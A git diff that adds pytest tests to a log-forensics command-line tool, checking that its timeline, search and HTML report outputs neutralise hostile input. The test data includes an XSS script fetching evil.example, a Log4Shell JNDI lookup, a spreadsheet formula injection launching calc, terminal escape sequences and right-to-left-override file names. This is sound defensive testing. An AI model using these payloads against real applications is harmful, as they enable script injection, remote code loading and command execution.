@@ -2,11 +2,18 @@
 
 from __future__ import annotations
 
+import csv
 import os
+import re
+import subprocess
 import sys
+from pathlib import Path
 
 import pytest
 
+from forensics.api import open_case
+
+CORPUS = Path(__file__).resolve().parents[1] / "corpus"
 LINE = b'192.0.2.1 - - [14/Jan/2026:08:00:01 +0000] "GET /%s HTTP/1.1" 200 5 "-" "%s"\n'
 posix = pytest.mark.skipif(sys.platform == "win32", reason="names and file kinds that Windows does not have")
 
@@ -49,3 +56,84 @@ def test_a_pipe_or_device_handed_in_is_refused_before_anything_is_made(tmp_path,
 def test_a_day_that_does_not_exist_is_named(tmp_path, evidence, athar):
     ran = athar("run", evidence, "--case", tmp_path / "case", "--date", "2026-02-30")
     assert (ran.code, ran.err) == (2, "athar: date '2026-02-30': no such day; expected YYYY-MM-DD\n")
+
+
+def test_inputs_that_once_broke_a_reader_are_read_and_add_up(tmp_path, athar):
+    """Every file of `tests/corpus`: no reader fails, every byte is counted once, and the rules run over what came of it."""
+    ran = athar("run", CORPUS, "--case", tmp_path / "case", "--workers", 1)
+    assert (ran.code, ran.err) == (0, "")
+    opened = open_case(tmp_path / "case")
+    files = opened.files().query("status == 'evidence'")
+    assert len(files) >= len(list(CORPUS.iterdir())) - 1
+    ledger = opened.ledger()
+    assert (ledger["size"] == ledger[["read", "free", "unsupported", "damaged"]].sum(axis=1)).all()
+    lost = opened.problems().reason.str.contains("claimed twice|not accounted for|bytes outside|fault in the")
+    assert not lost.any()
+
+
+SCRIPT = b"<script>fetch('http://evil.example/')</script>"
+VALUES = (
+    SCRIPT,
+    b"\x1b]0;title\x07\x1b[2J",
+    "\N{RIGHT-TO-LEFT OVERRIDE}gnp.exe".encode(),
+    b"=cmd|' /C calc'!A0",
+    b"\xed\xa0\x80\xff",  # a surrogate as UTF-8 would write it, and a byte that is none
+    b"\0\x01",
+    b"A" * 10_000,
+    b"${jndi:ldap://evil.example/a}",
+    b"{{7*7}} #set page(width: 1pt)",
+)
+NAMES = (
+    b"<img src=x onerror=alert(1)>.log",
+    b"two\nlines.log",
+    "\N{RIGHT-TO-LEFT OVERRIDE}gol.exe".encode(),
+    b"\xff\xfe.log",
+    b"=1+1.log",
+)
+SHOWN_RAW = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200b-\u200f\u2028-\u202e\ud800-\udfff]")
+
+
+@posix
+@pytest.mark.skipif(sys.platform == "darwin", reason="its file systems take UTF-8 names only")
+def test_hostile_strings_come_out_tame_everywhere(tmp_path, athar):
+    folder = os.fsencode(tmp_path / "evidence")
+    os.mkdir(folder)
+    for at, name in enumerate(NAMES):
+        with open(os.path.join(folder, name), "wb") as handle:
+            handle.writelines(LINE % (value.replace(b" ", b"%20"), value) for value in VALUES)
+            handle.write(b"%d\n" % at)  # each file differs, so none is a duplicate
+    case = tmp_path / "case"
+    assert athar("run", tmp_path / "evidence", "--case", case, "--lang", "en,fr,ar", "--workers", 1).code == 0
+    rows = csv.reader(athar("timeline", case, "--format", "csv").out.splitlines())
+    cells = [cell for row in rows for cell in row]
+    assert not [cell for cell in cells if cell[:1] in tuple("=+@")]
+    first = open_case(case).timeline().row_id.iloc[0]
+    asked = (
+        *(["timeline", case, *more] for more in ([], ["--lang", "ar"], ["--format", "jsonl"])),
+        ["search", case, "evil"],
+        ["show", case, first],
+        ["findings", case],
+        *(["case", "show", case, more] for more in ("--files", "--problems")),
+        ["verify", case],
+    )
+    for arguments in asked:
+        ran = athar(*arguments)
+        assert (ran.code, ran.err) == (0, "")
+        assert not SHOWN_RAW.findall(ran.out), arguments
+    pages = [path.read_text("utf-8") for path in (case / "reports").glob("*.html")]
+    assert len(pages) == 3
+    for page in pages:
+        assert not SHOWN_RAW.findall(page)
+        assert "<script" not in page
+        assert "<img" not in page
+        assert "jndi" in page  # the finding is there, its text harmless
+
+
+@posix
+def test_a_closed_or_vanished_output_is_no_traceback(tmp_path, evidence, athar):
+    case = tmp_path / "case"
+    assert athar("run", evidence, "--case", case, "--workers", 1).code == 0
+    command = f'"{sys.executable}" -m forensics timeline "{case}"'
+    for line in (f"{command} >&-", f"{command} >&- 2>&-"):
+        ran = subprocess.run(["sh", "-c", line], capture_output=True, text=True, check=False)
+        assert (ran.returncode, ran.stderr) == (0, "")
